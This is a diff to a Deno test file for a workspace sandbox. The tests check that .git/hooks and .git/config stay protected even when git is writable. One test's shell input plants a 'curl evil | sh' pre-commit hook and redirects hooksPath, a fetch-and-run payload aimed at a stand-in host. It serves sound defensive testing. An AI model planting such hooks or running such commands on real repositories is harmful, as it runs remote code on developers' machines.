@@ -174,25 +174,34 @@ Deno.test("with the network off a connect to a host listener never arrives; with
   }
 });
 
-Deno.test(".git/hooks and .git/config cannot be changed from inside the workspace", async () => {
+Deno.test(".git/hooks and .git/config cannot be changed from inside the workspace, even with git writable", async () => {
   const l = await layout();
   try {
     await Deno.mkdir(join(l.ws, ".git", "hooks"), { recursive: true });
     await Deno.writeTextFile(join(l.ws, ".git", "config"), "[core]\n");
+    await Deno.writeTextFile(join(l.ws, ".git", "HEAD"), "ref: refs/heads/main\n");
+    // By default the whole .git is read-only.
+    await sh(policyFor(l), "echo ok > .git/HEAD");
+    assert.equal(await Deno.readTextFile(join(l.ws, ".git", "HEAD")), "ref: refs/heads/main\n");
     await sh(
-      policyFor(l),
+      policyFor(l, { git: "writable" }),
       "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; " +
         "echo '[core] hooksPath = /tmp' >> .git/config; rm -rf .git/hooks; echo ok > .git/HEAD",
     );
     assert.equal(await exists(join(l.ws, ".git", "hooks", "pre-commit")), false);
     assert.equal(await Deno.readTextFile(join(l.ws, ".git", "config")), "[core]\n");
     assert.equal(await exists(join(l.ws, ".git", "hooks")), true);
-    // The rest of .git stays writable.
+    // With git writable the rest of .git is writable.
     assert.equal(await Deno.readTextFile(join(l.ws, ".git", "HEAD")), "ok\n");
 
     await Deno.remove(join(l.ws, ".git", "hooks"));
-    await sh(policyFor(l), "mkdir -p .git/hooks; echo x > .git/hooks/post-checkout");
+    await sh(
+      policyFor(l, { git: "writable" }),
+      "mkdir -p .git/hooks; echo x > .git/hooks/post-checkout",
+    );
     assert.equal(await exists(join(l.ws, ".git", "hooks", "post-checkout")), false);
+    // The read-only stand-in for the missing hooks directory is gone again.
+    assert.equal(await exists(join(l.ws, ".git", "hooks")), false);
   } finally {
     await Deno.remove(l.base, { recursive: true });
   }
